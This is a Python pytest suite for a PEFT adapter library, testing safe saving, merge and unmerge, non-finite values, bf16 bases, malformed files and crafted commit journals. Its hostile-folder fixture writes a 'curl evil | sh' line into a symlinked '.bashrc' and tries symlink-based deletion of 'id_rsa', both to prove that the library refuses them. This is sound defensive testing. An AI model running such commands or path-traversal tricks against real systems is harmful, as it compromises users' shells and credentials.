"""Careless and hostile use of the adapter: saving into folders with other files, merged state, non-finite values,
low-precision bases, malformed files. Each case asserts the clear error (naming the fix) or the preserved data."""

import json
import os
import warnings

import pytest
import torch
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from peft import get_peft_model
from safetensors.torch import load_file, save_file

import gradiend_peft
from gradiend_peft import GradiendConfig, UntrustedAdapterError, load_gradiend_model, prune_adapter, save_adapter
from gradiend_peft.evaluation import evaluate_encoder

from helpers import shard_saved_adapter
from training_fixtures import pairs, tokenizer
from tiny import MODEL_BUILDERS, tiny_llama


def _model(family="llama", **config):
    config.setdefault("init_seed", 0)
    return get_peft_model(MODEL_BUILDERS[family](), GradiendConfig(**config))


def _base_weights(model):
    return {n: p.detach().clone() for n, p in model.get_base_model().named_parameters() if "gradiend" not in n}


def _assert_weights_equal(model, weights):
    for name, param in model.get_base_model().named_parameters():
        if name in weights:
            assert torch.equal(param, weights[name]), name


# ----------------------------------------------------------------------------------------- 1. saving
def test_save_adapter_into_a_project_folder_keeps_every_other_file(tmp_path, monkeypatch):
    project = tmp_path / "project"
    (project / "src").mkdir(parents=True)
    (project / "src" / "main.py").write_text("print('hi')\n")
    (project / "README.md").write_text("# My project\n")
    (project / "data.csv").write_text("1,2,3\n")
    monkeypatch.chdir(project)
    model = _model()
    save_adapter(model, ".")
    assert (project / "src" / "main.py").read_text() == "print('hi')\n"
    assert (project / "README.md").read_text() == "# My project\n"  # a user's README is not a GRADIEND card
    assert (project / "data.csv").read_text() == "1,2,3\n"
    assert (project / "adapter_model.safetensors").is_file() and (project / "adapter_config.json").is_file()
    assert not [n for n in os.listdir(project) if n.startswith(".gradiend")]
    loaded = load_gradiend_model(tiny_llama(), str(project))
    for key, value in model.state_dict().items():
        if "gradiend" in key:
            assert torch.equal(loaded.state_dict()[key], value)


def test_save_adapter_updates_its_own_card_on_a_second_save(tmp_path):
    model = _model(feature_classes=["M", "F"])
    save_adapter(model, str(tmp_path))
    first = (tmp_path / "README.md").read_text()
    model.peft_config["default"].feature_classes = ["A", "B"]
    model.peft_config["default"].class_signs = {"A": 1.0, "B": -1.0}
    save_adapter(model, str(tmp_path))
    second = (tmp_path / "README.md").read_text()
    assert "class `M` encodes to +1" in first and "class `F` encodes to -1" in first
    # our card is replaced by our new card: the new classes, none of the old ones
    assert "class `A` encodes to +1" in second and "class `B` encodes to -1" in second
    assert "class `M`" not in second and "class `F`" not in second


INDEX_NAME = "adapter_model.safetensors.index.json"
# names that collide with what a save writes and deletes (the shards and index of a sharded adapter that a GRADIEND
# index names go on purpose)
file_names = st.one_of(
    st.text(alphabet="abcdefghij_-", min_size=1, max_size=8),
    st.builds(lambda i, n: f"adapter_model-{min(i, n):05d}-of-{n:05d}.safetensors", st.integers(1, 3), st.integers(1, 3)),
    st.sampled_from([INDEX_NAME, "gradiend_training_summary.json", "README.md", "adapter_model.safetensors",
                     "adapter_config.json"]),
)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(previous_shards=st.integers(0, 3),
       files=st.dictionaries(st.tuples(st.sampled_from(["", "sub", "default"]), file_names), st.binary(max_size=64),
                             max_size=6))
# the collisions that matter, every run: a sharded adapter beside user files named like shards of another count
@example(previous_shards=2, files={("", "adapter_model-00001-of-00003.safetensors"): b"mine",
                                   ("", "gradiend_training_summary.json"): b"{}",
                                   ("sub", "adapter_model-00001-of-00002.safetensors"): b"in sub"})
@example(previous_shards=0, files={("", "adapter_model-00001-of-00001.safetensors"): b"mine", ("", "README.md"): b"# mine"})
@example(previous_shards=0, files={("", INDEX_NAME): b"{}", ("", "adapter_model-00001-of-00002.safetensors"): b"x"})
def test_saving_never_removes_or_changes_a_file_the_library_did_not_write(tmp_path_factory, previous_shards, files):
    """Over a sharded adapter saved before (``previous_shards`` files; 0: none) and user files named like the shards,
    the index and the save's own files: the save removes exactly the old index and the shards it names, or refuses
    (beside an index that is not a GRADIEND index it cannot tell which shards are ours) and writes nothing."""
    folder = tmp_path_factory.mktemp("dest")
    model, ours = _model(), set()
    if previous_shards:
        save_adapter(model, str(folder))
        shard_saved_adapter(folder, previous_shards)
        ours = set(os.listdir(folder))  # config, card, index and the shard files
    # at the top, a user file over the save's own config or weights is replaced by design, and one over the previous
    # adapter's files would make them the user's; every other collision stays (a user's README.md included)
    files = {(sub, name): content for (sub, name), content in files.items()
             if sub or (name not in ours and name not in ("adapter_config.json", "adapter_model.safetensors"))}
    for (sub, name), content in files.items():
        os.makedirs(folder / sub, exist_ok=True)
        (folder / sub / name).write_bytes(content)
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    for _ in range(2):  # a second save over the first one as well
        if ("", INDEX_NAME) in files:  # at most 64 random bytes: never a valid index
            with pytest.raises(UntrustedAdapterError, match="not a GRADIEND adapter's index"):
                save_adapter(model, str(folder))
            assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before  # nothing written
        else:
            save_adapter(model, str(folder))
            left = set(os.listdir(folder))
            assert not (ours - {"adapter_config.json", "README.md"}) & left  # the old index and its shards went
            assert {"adapter_config.json", "adapter_model.safetensors"} <= left
    for (sub, name), content in files.items():
        assert (folder / sub / name).read_bytes() == content, (sub, name)


def test_rewrite_merge_output_keeps_a_users_file(tmp_path):
    from gradiend_peft.cli.steps import save_merged

    merged_dir = tmp_path / "merged"
    merged_dir.mkdir()
    (merged_dir / "notes.txt").write_text("keep me")
    model = _model("gpt2")
    save_merged(model, tokenizer("gpt2"), str(merged_dir), feature_factor=1.0, lr=1.0)
    assert (merged_dir / "notes.txt").read_text() == "keep me"
    assert (merged_dir / "config.json").is_file()


# --------------------------------------------------------------------------- 2. changed after merge
@pytest.mark.parametrize("operation", ["prune", "reset", "load", "pre_prune"])
def test_changing_a_merged_adapter_is_refused_and_keeps_the_merge_undoable(tmp_path, operation):
    model = _model()
    original = _base_weights(model)
    model.save_pretrained(tmp_path)
    model.merge_adapter(feature_factor=1.0, lr=30.0)
    with pytest.raises(RuntimeError, match="unmerge"):
        if operation == "prune":
            prune_adapter(model, keep=0.5)
        elif operation == "reset":
            model.base_model.reset_adapter(seed=3)
        elif operation == "pre_prune":
            from batches import causal_lm_batch

            gradiend_peft.pre_prune_adapter(model, [causal_lm_batch()], keep=0.5)
        else:
            model.load_adapter(str(tmp_path), adapter_name="default")
    model.unmerge_adapter()
    for name, param in model.get_base_model().named_parameters():
        if name in original:
            eps = torch.finfo(param.dtype).eps
            torch.testing.assert_close(param, original[name], rtol=0, atol=4 * eps * (1 + float(param.abs().max())))


def test_unmerge_after_an_in_place_change_is_refused_without_touching_the_weights():
    model = _model()
    model.merge_adapter(feature_factor=1.0, lr=30.0)
    merged = _base_weights(model)
    with torch.no_grad():  # what an optimizer step does to the decoder
        next(iter(model.base_model.gradiend_layers().values())).gradiend_decoder["default"].mul_(2.0)
    with pytest.raises(RuntimeError, match="changed after they were merged"):
        model.unmerge_adapter()
    _assert_weights_equal(model, merged)


def test_merge_with_keep_original_restores_exactly_even_after_a_change():
    model = _model()
    original = _base_weights(model)
    model.merge_adapter(feature_factor=1.0, lr=30.0, keep_original=True)
    with torch.no_grad():
        next(iter(model.base_model.gradiend_layers().values())).gradiend_decoder["default"].mul_(2.0)
    model.unmerge_adapter()
    _assert_weights_equal(model, original)


# ----------------------------------------------------------------------------- 4. non-finite values
def _corrupt(folder, key_part, value):
    path = os.path.join(folder, "adapter_model.safetensors")
    tensors = load_file(path)
    key = next(k for k in tensors if key_part in k)
    tensors[key].view(-1)[0] = value
    save_file(tensors, path)
    return key


@pytest.mark.parametrize("key_part, value", [("gradiend_decoder", float("nan")), ("gradiend_encoder", float("inf")),
                                             ("gradiend_gradient_scale", float("inf"))])
def test_non_finite_adapter_tensors_are_refused_at_load(tmp_path, read_adapter, key_part, value):
    _model().save_pretrained(tmp_path)
    key = _corrupt(str(tmp_path), key_part, value)
    with pytest.raises(UntrustedAdapterError, match="NaN or infinite") as info:
        read_adapter(tiny_llama(), tmp_path)
    assert key in str(info.value)


def test_a_negative_gradient_scale_is_refused_at_load(tmp_path, read_adapter):
    _model().save_pretrained(tmp_path)
    _corrupt(str(tmp_path), "gradiend_gradient_scale", -2.0)
    with pytest.raises(UntrustedAdapterError, match="negative"):
        read_adapter(tiny_llama(), tmp_path)


def test_an_infinite_gradient_scale_in_memory_is_refused_instead_of_a_no_op_merge():
    model = _model()
    model.base_model.gradiend_gradient_scale["default"].fill_(float("inf"))
    original = _base_weights(model)
    with pytest.raises(ValueError, match="gradient scale"):
        model.merge_adapter(feature_factor=1.0, lr=1.0)
    _assert_weights_equal(model, original)


@pytest.mark.parametrize("safe_merge", [False, True])
def test_a_merge_that_would_overflow_writes_nothing(safe_merge):
    model = _model()
    original = _base_weights(model)
    with pytest.raises(ValueError, match="NaN or infinite"):
        model.merge_adapter(feature_factor=1.0, lr=1e39, safe_merge=safe_merge)
    _assert_weights_equal(model, original)
    assert not model.base_model.merged_adapter_names()


def test_steering_that_would_overflow_is_refused():
    model = _model()
    with model.base_model.steer(1.0, 1e39), pytest.raises(ValueError, match="NaN or infinite"):
        model(input_ids=torch.tensor([[3, 4, 5]]))


# ---------------------------------------------------------------------------------- 5. merged state
def test_encoder_evaluation_on_a_merged_model_is_refused():
    model = _model("bert")
    model.merge_adapter(feature_factor=1.0, lr=1.0)
    with pytest.raises(RuntimeError, match="unmerge_adapter"):
        evaluate_encoder(model, pairs("bert")["test"], tokenizer=tokenizer("bert"))


def test_steering_a_merged_model_is_refused():
    model = _model()
    model.merge_adapter(feature_factor=1.0, lr=1.0)
    with pytest.raises(RuntimeError, match="unmerge_adapter"):
        model.base_model.set_steering(1.0, 5.0)


def test_a_second_merge_with_other_values_is_refused_and_the_same_values_do_nothing():
    model = _model()
    model.merge_adapter(feature_factor=1.0, lr=2.0)
    merged = _base_weights(model)
    with pytest.raises(ValueError, match="already merged"):
        model.merge_adapter(feature_factor=1.0, lr=3.0)
    with pytest.warns(UserWarning, match="already merged"):
        model.merge_adapter(feature_factor=1.0, lr=2.0)
    _assert_weights_equal(model, merged)


# ------------------------------------------------------------------------------------ 7. bf16 bases
def test_a_bf16_merge_warns_about_lost_steps_and_unmerges_exactly():
    model = get_peft_model(tiny_llama().to(torch.bfloat16), GradiendConfig(init_seed=0))
    original = _base_weights(model)
    tuner = model.base_model
    with pytest.warns(UserWarning, match="did not change"):
        model.merge_adapter(feature_factor=1.0, lr=1e-3)  # steps far below bf16's resolution of these weights
    for name, layer in tuner.gradiend_layers().items():
        weight = layer.get_base_layer().weight
        expected = (original[f"{name}.base_layer.weight"].float()
                    + layer.delta_weight("default", 1.0, 1e-3, tuner.gradient_scale()).detach()).to(torch.bfloat16)
        assert torch.equal(weight, expected), name  # one rounding of the float32 sum
    model.unmerge_adapter()
    _assert_weights_equal(model, original)


def test_a_bf16_steered_forward_equals_the_bf16_merged_forward():
    model = get_peft_model(tiny_llama().to(torch.bfloat16), GradiendConfig(init_seed=0))
    ids = torch.tensor([[3, 4, 5, 6]])
    with model.base_model.steer(1.0, 50.0):
        steered = model(input_ids=ids).logits
    model.merge_adapter(feature_factor=1.0, lr=50.0)
    assert torch.equal(model(input_ids=ids).logits, steered)


# ------------------------------------------------------------------------------- 10. unclear errors
@pytest.mark.parametrize("kwargs, message", [
    ({"target_modules": "(q_proj"}, "not a valid regular expression"),
    ({"target_modules": []}, "targets nothing"),
    ({"latent_dim": 10**6}, r"latent_dim must be an integer in \[1, 4096\]"),
    ({"feature_factor": "1.0"}, "feature_factor must be a finite number"),
    ({"lr": "3"}, "lr must be a finite number"),
    ({"exclude_modules": "[bad"}, "not a valid regular expression"),
])
def test_config_errors_name_the_argument_and_the_fix(kwargs, message):
    with pytest.raises(ValueError, match=message):
        GradiendConfig(**kwargs)


def test_a_truncated_safetensors_file_is_untrusted(tmp_path, read_adapter):
    _model().save_pretrained(tmp_path)
    path = tmp_path / "adapter_model.safetensors"
    path.write_bytes(path.read_bytes()[:200])
    with pytest.raises(UntrustedAdapterError, match="truncated"):
        read_adapter(tiny_llama(), tmp_path)


def test_an_oversized_safetensors_header_is_untrusted(tmp_path, read_adapter):
    _model().save_pretrained(tmp_path)
    path = tmp_path / "adapter_model.safetensors"
    data = path.read_bytes()
    path.write_bytes((2**40).to_bytes(8, "little") + data[8:])
    with pytest.raises(UntrustedAdapterError, match="header"):
        read_adapter(tiny_llama(), tmp_path)


def test_a_config_without_target_shapes_on_another_base_names_the_module(tmp_path, read_adapter):
    _model("llama").save_pretrained(tmp_path)
    raw = json.loads((tmp_path / "adapter_config.json").read_text())
    del raw["target_shapes"]
    (tmp_path / "adapter_config.json").write_text(json.dumps(raw))
    from transformers import LlamaConfig, LlamaForCausalLM

    wider = LlamaForCausalLM(LlamaConfig(vocab_size=tiny_llama().config.vocab_size, hidden_size=48,
                                         intermediate_size=64, num_hidden_layers=2, num_attention_heads=2,
                                         num_key_value_heads=1, tie_word_embeddings=False))
    with pytest.raises(UntrustedAdapterError, match=r"model\.layers\.0\.\w+\.\w+.*(does not fit module|the config implies)"):
        read_adapter(wider, tmp_path)


def test_a_local_typo_or_unreachable_hub_id_says_no_such_folder_or_repository(tmp_path, monkeypatch):
    import huggingface_hub.constants

    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", True)  # the edge of the world: no network
    for model_id in (str(tmp_path / "no-such-adapter"), "someone/no-such-adapter"):
        with pytest.raises(FileNotFoundError, match="No such adapter folder or Hub repository"):
            load_gradiend_model(tiny_llama(), model_id)


def test_unknown_adapter_names_are_named():
    model = _model()
    with pytest.raises(ValueError, match="Unknown adapter 'nope'"):
        model.merge_adapter(adapter_names=["nope"], feature_factor=1.0, lr=1.0)
    with pytest.raises(ValueError, match="Unknown adapter 'nope'"):
        prune_adapter(model, keep=0.5, adapter_name="nope")


# --------------------------------------------------------------------------------------- 11. minor
def test_kept_entries_for_modules_that_are_not_targeted_are_refused():
    with pytest.raises(ValueError, match="does not target"):
        get_peft_model(tiny_llama(), GradiendConfig(target_modules=["q_proj"], kept_entries={
            "model.layers.0.self_attn.q_proj": 4, "model.layers.1.self_attn.q_proj": 4,
            "model.layers.0.mlp.up_proj": 4}))


def test_kept_entries_refusal_in_a_loaded_config(tmp_path, read_adapter):
    model = _model(target_modules=["q_proj"])
    prune_adapter(model, keep=0.5)
    model.save_pretrained(tmp_path)
    raw = json.loads((tmp_path / "adapter_config.json").read_text())
    raw["kept_entries"]["model.layers.0.mlp.up_proj"] = 3
    raw["target_shapes"]["model.layers.0.mlp.up_proj"] = [64, 32]
    (tmp_path / "adapter_config.json").write_text(json.dumps(raw))
    with pytest.raises(ValueError, match="lacks tensors|does not target"):
        read_adapter(tiny_llama(), tmp_path)


def test_merging_on_a_bert_masked_lm_with_warnings_as_errors_is_silent_for_float32():
    model = _model("bert")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        model.merge_adapter(feature_factor=1.0, lr=1.0)  # float32: nothing to warn about
    model.unmerge_adapter()


# ------------------------------------------------------------------------ 12. folders handed over by others
def _tree(root) -> dict:
    """Every path below ``root`` (links not followed) -> its bytes, its link target, or "dir"."""
    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(folder, name)
            key = os.path.relpath(path, root)
            found[key] = ("link:" + os.readlink(path) if os.path.islink(path) else
                          "dir" if os.path.isdir(path) else open(path, "rb").read())
    return found


def _write_journal(folder, staging, files=(), remove=()):
    (folder / f".gradiend-commit-{staging}.json").write_text(
        json.dumps({"staging": staging, "files": list(files), "remove": list(remove)}))


def _hostile_folder(tmp_path, attack):
    """A loadable adapter folder with a crafted interrupted commit (issue 18.1), beside a home folder that nothing may
    touch; returns (adapter folder, home)."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_bytes(b"export PATH=/usr/bin\n")
    (home / "id_rsa").write_bytes(b"-----BEGIN PRIVATE KEY-----\n")
    (home / "adapter_model.safetensors").write_bytes(b"someone else's weights\n")
    folder = tmp_path / "adapter"
    _model().save_pretrained(folder)
    (folder / "notes.txt").write_bytes(b"the user's notes\n")
    staging = folder / ".gradiend-staging-evil"
    if attack == "journal writes through a linked folder":
        os.symlink(home, folder / "link")
        (staging / "link").mkdir(parents=True)
        (staging / "link" / ".bashrc").write_bytes(b"curl evil | sh\n")
        _write_journal(folder, staging.name, files=["link/.bashrc"])
    elif attack == "journal deletes through a linked folder":
        os.symlink(home, folder / "link")
        staging.mkdir()
        _write_journal(folder, staging.name, remove=["link/id_rsa"])
    elif attack == "journal deletes a file of the folder":
        staging.mkdir()
        _write_journal(folder, staging.name, remove=["notes.txt"])
    elif attack == "journal deletes one of ours named through a link":
        os.symlink(home, folder / "link")
        staging.mkdir()
        _write_journal(folder, staging.name, remove=["link/adapter_model.safetensors"])
    else:  # "staging folder is a link": its files would be moved out of home into the adapter
        os.symlink(home, staging)
        _write_journal(folder, staging.name, files=["adapter_model.safetensors", "id_rsa"])
    return folder, home


HOSTILE = ["journal writes through a linked folder", "journal deletes through a linked folder",
           "journal deletes a file of the folder", "journal deletes one of ours named through a link",
           "staging folder is a link"]


@pytest.mark.parametrize("attack", HOSTILE)
def test_loading_a_folder_with_a_crafted_journal_changes_nothing_anywhere(tmp_path, read_adapter, attack):
    """Loads are read-only: a pending journal is refused, never rolled forward (issue 18.1)."""
    folder, home = _hostile_folder(tmp_path, attack)
    outside, inside = _tree(home), _tree(folder)
    with pytest.raises(UntrustedAdapterError, match="a save into this folder was interrupted"):
        read_adapter(tiny_llama(), folder)
    assert _tree(home) == outside  # byte for byte
    assert _tree(folder) == inside


@pytest.mark.parametrize("attack", HOSTILE)
@pytest.mark.parametrize("save", ["save_adapter", "save_pretrained"])
def test_saving_into_a_folder_with_a_crafted_journal_is_refused_and_touches_nothing_outside(tmp_path, attack, save):
    """A save checks the journal strictly before it finishes or discards it: here it refuses, and the home folder and
    the user's file stay byte for byte. save_adapter writes nothing at all; peft's save_pretrained has written its
    weights in place before GRADIEND's config hook runs, so only its config is refused."""
    folder, home = _hostile_folder(tmp_path, attack)
    outside, inside = _tree(home), _tree(folder)
    model = _model(init_seed=3)
    with pytest.raises(UntrustedAdapterError, match="gradiend_peft never writes a journal like that"):
        save_adapter(model, str(folder)) if save == "save_adapter" else model.save_pretrained(folder)
    assert _tree(home) == outside
    assert (folder / "notes.txt").read_bytes() == b"the user's notes\n"
    if save == "save_adapter":
        assert _tree(folder) == inside
    else:
        assert (folder / "adapter_config.json").read_bytes() == inside["adapter_config.json"]


def test_a_real_interrupted_save_is_refused_by_loads_and_finished_by_the_next_save(tmp_path, read_adapter):
    from gradiend_peft.saving import finish_interrupted_save

    folder = tmp_path / "adapter"
    old, new = _model(init_seed=1), _model(init_seed=2)
    save_adapter(old, str(folder))
    staging = tmp_path / "new"
    save_adapter(new, str(staging))
    (folder / ".gradiend-staging-cut").mkdir()
    os.replace(staging / "adapter_model.safetensors", folder / ".gradiend-staging-cut" / "adapter_model.safetensors")
    os.replace(staging / "adapter_config.json", folder / "adapter_config.json")  # moved before the kill, config first
    _write_journal(folder, ".gradiend-staging-cut", files=["adapter_config.json", "adapter_model.safetensors"])
    with pytest.raises(UntrustedAdapterError, match="interrupted"):
        read_adapter(tiny_llama(), folder)
    finish_interrupted_save(str(folder))  # the owner's explicit call
    loaded = read_adapter(tiny_llama(), folder)
    for key, value in new.base_model.adapter_state_dict().items():
        assert torch.equal(loaded.base_model.adapter_state_dict()[key], value), key


def test_peft_save_pretrained_discards_a_real_interrupted_save_and_its_own_files_load(tmp_path, read_adapter):
    """peft's save has written its weights in place before GRADIEND's config hook runs: finishing the old commit would
    move older files over them, so the hook discards it (after checking the journal)."""
    folder = tmp_path / "adapter"
    save_adapter(_model(init_seed=1), str(folder))
    (folder / ".gradiend-staging-cut").mkdir()
    (folder / ".gradiend-staging-cut" / "adapter_model.safetensors").write_bytes(b"older weights")
    _write_journal(folder, ".gradiend-staging-cut", files=["adapter_config.json", "adapter_model.safetensors"])
    new = _model(init_seed=2)
    new.save_pretrained(folder)
    assert not [name for name in os.listdir(folder) if name.startswith(".gradiend")]
    loaded = read_adapter(tiny_llama(), folder)
    for key, value in new.base_model.adapter_state_dict().items():
        assert torch.equal(loaded.base_model.adapter_state_dict()[key], value), key


def test_links_in_an_adapter_folder_are_not_followed(tmp_path, read_adapter):
    """A config or weights file that is a link could make a load read anything: refused."""
    home = tmp_path / "home"
    _model(init_seed=1).save_pretrained(home)
    folder = tmp_path / "adapter"
    _model().save_pretrained(folder)
    for name in ("adapter_model.safetensors", "adapter_config.json"):
        original = (folder / name).read_bytes()
        (folder / name).unlink()
        os.symlink(home / name, folder / name)
        with pytest.raises(UntrustedAdapterError, match="link"):
            read_adapter(tiny_llama(), folder)
        (folder / name).unlink()
        (folder / name).write_bytes(original)
